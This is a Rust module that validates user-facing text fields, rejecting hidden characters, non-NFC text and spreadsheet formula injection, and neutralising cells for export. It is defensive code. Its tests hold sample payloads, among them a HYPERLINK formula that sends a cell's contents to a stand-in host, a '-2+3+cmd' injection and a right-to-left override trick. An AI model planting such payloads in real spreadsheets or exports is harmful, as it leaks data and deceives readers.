//! Texts for people inside statements: how long they may be and what they may hold. Every text field of every body goes
//! through one of these functions, and what a field may hold is decided here alone.
//!
//! No text acts on whoever reads it or hides anything ([`crate::domain::characters`]), each has one spelling (Unicode NFC),
//! and none begins or ends with a blank.
use unicode_normalization::{UnicodeNormalization as _, is_nfc};

use crate::domain::characters::{hides, named, printable_lines};
use crate::domain::id::shortened;
use crate::domain::reason::{Reason, Refusal};

/// Longest text in any field of any statement: about a page and a half, the description of an offering.
pub const TEXT_CHARS_MAX: usize = 4_000;

/// Longest reason word.
pub const WORD_BYTES_MAX: usize = 64;

/// What spreadsheets take for the beginning of a formula, in either width.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// A text of one line, which may be empty.
pub fn checked_text(field: &'static str, text: &str, chars_max: usize) -> Result<(), Refusal> {
    if text.contains('\n') {
        return Err(hidden('\n').with("field", field));
    }
    checked_lines(field, text, chars_max)
}

/// A text of any number of lines, which may be empty.
pub fn checked_lines(field: &'static str, text: &str, chars_max: usize) -> Result<(), Refusal> {
    // No text has more characters than bytes.
    if text.len() > chars_max && text.chars().count() > chars_max {
        return Err(Refusal::new(Reason::TextTooLong).with("field", field).with("limit", chars_max));
    }
    check_characters(text).map_err(|refusal| refusal.with("field", field))?;
    if text.trim() != text {
        return Err(misshaped("begins or ends with a blank", text).with("field", field));
    }
    Ok(())
}

/// A name or title of one line, which stands in cells of tables: required, and no formula of a spreadsheet.
pub fn checked_title(field: &'static str, text: &str, chars_max: usize) -> Result<(), Refusal> {
    required(field, text)?;
    checked_label(field, text, chars_max)
}

/// The same where it may be empty.
pub fn checked_label(field: &'static str, text: &str, chars_max: usize) -> Result<(), Refusal> {
    checked_text(field, text, chars_max)?;
    if begins_formula(text) {
        return Err(Refusal::new(Reason::TextFormula).with("field", field).with("value", shortened(text)));
    }
    Ok(())
}

/// Refuses a text that says nothing.
pub fn required(field: &'static str, text: &str) -> Result<(), Refusal> {
    if text.trim().is_empty() {
        return Err(Refusal::new(Reason::FieldInvalid).with("field", field).with("rule", "must not be empty"));
    }
    Ok(())
}

/// A stable word such as the codes of [`Reason`]; words of later versions are words as well.
pub fn checked_word(field: &'static str, word: &str) -> Result<(), Refusal> {
    let letter = |b: u8| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_';
    if (1..=WORD_BYTES_MAX).contains(&word.len()) && word.bytes().all(letter) {
        return Ok(());
    }
    Err(Refusal::new(Reason::FieldInvalid).with("field", field).with("value", shortened(word)))
}

/// What holds for every text in a statement, in fields of later versions too: nothing in it acts or hides, and it has one
/// spelling. Line ends are left to the field.
pub fn check_characters(text: &str) -> Result<(), Refusal> {
    if text.bytes().all(|b| matches!(b, b' '..=b'~' | b'\n')) {
        return Ok(());
    }
    match text.chars().find(|c| hides(*c) && *c != '\n') {
        Some(c) => Err(hidden(c)),
        None if is_nfc(text) => Ok(()),
        None => Err(misshaped("not in Unicode normalization form C", text)),
    }
}

/// Whether a spreadsheet would take the text for a formula.
pub fn begins_formula(text: &str) -> bool {
    text.starts_with(FORMULA)
}

/// Text that no spreadsheet executes: an apostrophe stands before what would begin a formula, at the beginning of the cell
/// and wherever a program that separates cells by semicolons, tabs or commas would see one begin. [`restored`] undoes it.
pub fn inert(text: &str) -> String {
    let mut safe = String::with_capacity(text.len());
    let mut place = Place::Begins;
    for (at, c) in text.char_indices() {
        if place != Place::Within && begins_formula(text[at..].trim_start_matches('\'')) {
            safe.push('\'');
        }
        place = place.after(c);
        safe.push(c);
    }
    safe
}

/// The text that [`inert`] was given; of any other cell what a person reads in it.
pub fn restored(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len());
    let (mut place, mut after_mark) = (Place::Begins, false);
    for (at, c) in cell.char_indices() {
        let marked = c == '\'' && begins_formula(cell[at..].trim_start_matches('\''));
        if marked && !after_mark && place != Place::Within {
            after_mark = true;
            continue;
        }
        place = place.after(c);
        after_mark = false;
        text.push(c);
    }
    text
}

/// Where in a cell a character stands, for some program.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// A cell begins here; blanks and quotes do not change that.
    Begins,
    /// Right behind a comma. German texts have ", -" and "5,-" all the time, so that only what follows at once counts.
    Comma,
    /// Anywhere else.
    Within,
}

impl Place {
    fn after(self, c: char) -> Self {
        match c {
            ';' | '\t' | '\n' => Self::Begins,
            ' ' | '"' if self == Self::Begins => Self::Begins,
            ',' => Self::Comma,
            _ => Self::Within,
        }
    }
}

/// Text from anywhere made into one that every field for people admits: what hides is shown, the spelling is the one, and
/// it is cut to `chars_max`.
pub fn tamed(text: &str, chars_max: usize) -> String {
    let shown: String = printable_lines(text).nfc().collect();
    let cut: String = shown.trim().chars().take(chars_max).collect();
    cut.trim_end().to_owned()
}

fn hidden(c: char) -> Refusal {
    Refusal::new(Reason::TextHides).with("character", named(c))
}

fn misshaped(rule: &str, text: &str) -> Refusal {
    Refusal::new(Reason::TextMisshaped).with("rule", rule).with("value", shortened(text))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn reason(outcome: Result<(), Refusal>) -> Option<Reason> {
        outcome.err().map(|refusal| refusal.reason)
    }

    #[test]
    fn titles_neither_act_nor_hide() {
        for (title, expected) in [
            ("Wohngeld – Antrag (§ 3 WoGG)", None),
            ("„Mehr“ Demokratie+", None),
            ("", Some(Reason::FieldInvalid)),
            (" \u{a0}", Some(Reason::FieldInvalid)),
            ("=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")", Some(Reason::TextFormula)),
            ("-2+3+cmd", Some(Reason::TextFormula)),
            ("+49", Some(Reason::TextFormula)),
            ("@SUM(1+1)", Some(Reason::TextFormula)),
            ("＝1+1", Some(Reason::TextFormula)),
            ("\tWohngeld", Some(Reason::TextHides)),
            ("\nabc", Some(Reason::TextHides)),
            ("abc\n=1", Some(Reason::TextHides)),
            ("Wohngeld \u{202e}gnubegnarebeis\u{202c}, ab 0,00 €", Some(Reason::TextHides)),
            ("\u{1b}[31mrot", Some(Reason::TextHides)),
            ("Wohn\u{ad}geld", Some(Reason::TextHides)),
            ("a\u{308}", Some(Reason::TextMisshaped)),
            (" Wohngeld", Some(Reason::TextMisshaped)),
            ("Wohngeld\u{2003}", Some(Reason::TextMisshaped)),
        ] {
            assert_eq!(reason(checked_title("title", title, 60)), expected, "{title:?}");
        }
        assert_eq!(reason(checked_title("title", &"ä".repeat(61), 60)), Some(Reason::TextTooLong));
        assert_eq!(reason(checked_title("title", &"ä".repeat(60), 60)), None);
    }

    #[test]
    fn only_texts_of_several_lines_have_line_ends() {
        assert_eq!(reason(checked_lines("note", "eins\n- zwei", 100)), None);
        assert_eq!(reason(checked_text("source", "eins\nzwei", 100)), Some(Reason::TextHides));
        assert_eq!(reason(checked_lines("note", "eins\r\nzwei", 100)), Some(Reason::TextHides));
    }

    #[test]
    fn reason_words_are_words() {
        assert_eq!(reason(checked_word("reason", "LEG_NOT_PROVEN")), None);
        for word in ["", "Leg", "NEIN!", "LEG NOT", &"X".repeat(WORD_BYTES_MAX + 1)] {
            assert_eq!(reason(checked_word("reason", word)), Some(Reason::FieldInvalid), "{word}");
        }
    }

    proptest! {
        #[test]
        fn whatever_is_tamed_is_admissible(text in any::<String>(), chars_max in 0_usize..40) {
            prop_assert_eq!(checked_lines("note", &tamed(&text, chars_max), chars_max), Ok(()));
        }
    }

    proptest! {
        #[test]
        fn a_neutralised_text_comes_back_as_it_was(text in "['=+@,; \t\n\"a-]{0,12}") {
            let cell = inert(&text);
            prop_assert!(!begins_formula(&cell));
            prop_assert_eq!(restored(&cell), text);
        }
    }
}
